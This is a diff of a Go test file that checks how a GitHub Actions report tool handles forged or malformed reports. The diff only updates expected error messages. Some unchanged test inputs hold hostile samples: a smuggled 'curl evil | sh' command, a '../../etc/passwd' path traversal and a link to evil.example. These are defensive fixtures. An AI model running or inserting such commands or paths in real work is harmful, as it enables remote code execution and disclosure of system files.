@@ -90,7 +90,7 @@ func TestForgedReport(t *testing.T) {
 		{"another text", `"newText": "false"`, `"newText": "true # curl evil | sh"`, ""},
 		{"another file", `"file": "manifests/backup.yaml"`, `"file": "../../etc/passwd"`, "contradicts itself"},
 		{"another hash", `"manifests/backup.yaml": "`, `"manifests/backup.yaml": "00`, "contradicts itself"},
-		{"another field", `"schema":`, `"token": 1, "schema":`, "does not follow its schema"},
+		{"another field", `"schema":`, `"token": 1, "schema":`, "does not know"},
 		{"words", `"message": "`, `"message": "@octocat see https://evil.example `, ""},
 	} {
 		t.Run(test.name, func(t *testing.T) {
@@ -136,7 +136,7 @@ func TestCommentElsewhere(t *testing.T) {
 		{"", "", []string{"check", "--resolve-threads"}, 2, "--resolve-threads says what --comment does"},
 		{"", "", []string{"check", "--comment", "--write-exemptions", "--reason", "x"}, 2, "give one of them"},
 		{"push", push, []string{"report", "--from", "-", "--to", "fix-pr"}, 2, "a fix pull request is not made from a saved report"},
-		{"push", push, []string{"report", "--from", "-", "--to", "review"}, 2, "does not follow its schema"},
+		{"push", push, []string{"report", "--from", "-", "--to", "review"}, 2, "no report in JSON"},
 		{"push", push, []string{"report", "--from", "gone.json", "--to", "review"}, 2, "cannot be read"},
 	} {
 		code, writes := w.runIn(dir, map[string]string{"GITHUB_EVENT_NAME": test.event, "GITHUB_EVENT_PATH": test.payload, "GITHUB_REPOSITORY": "octo/shop"}, test.args...)
